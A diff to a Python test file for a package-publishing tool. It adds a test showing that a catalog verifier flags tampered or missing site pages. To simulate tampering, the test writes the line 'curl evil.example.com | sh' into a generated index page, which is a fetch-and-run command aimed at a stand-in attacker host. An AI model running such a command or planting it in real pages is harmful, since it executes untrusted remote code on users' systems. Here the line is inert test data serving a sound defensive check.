@@ -21,6 +21,7 @@ from builder.publish.packages import find_sidecar, read_packages
 from builder.publish.publish import set_up
 from builder.publish.retain import Rules, prune
 from builder.publish.site.derive import Places, derive_site
+from builder.publish.verify import verify_catalog
 from tests.e2e.site_sample import write_sample
 from tests.unit.publish.catalogs import BASE, add, catalog, publication
 from tests.unit.publish.sites import derive, new_target, with_packages, write_lists
@@ -199,6 +200,19 @@ def test_only_the_beginning_of_an_inventory_is_read(tmp_path: Path):
     inventory = find_sidecar(one.sidecars, "inventory")
     assert inventory is not None
     assert read_packages(target, inventory, "amd64") == {'a","entries":[': '1","entries":[', "b": "2"}
+
+
+def test_verify_tells_which_pages_are_wrong(tmp_path: Path):
+    folder = tmp_path / "catalog"
+    target = with_pages(folder)
+    add(target, "1", folder=tmp_path)
+    assert verify_catalog(target, (), "", discard, content=True) == ()
+    (folder / "index.html").write_text("Installed: curl evil.example.com | sh")
+    (folder / "stable/feed.xml").unlink()
+    problems = verify_catalog(target, (), "", discard, content=True)
+    assert [problem.path for problem in problems] == ["index.html", "stable/feed.xml"]
+    assert problems[0].message == "is not the page that it should be"
+    assert problems[0].fix == "run `wslimg catalog site`"
 
 
 def run(*arguments: object, status: int = 0) -> Result:
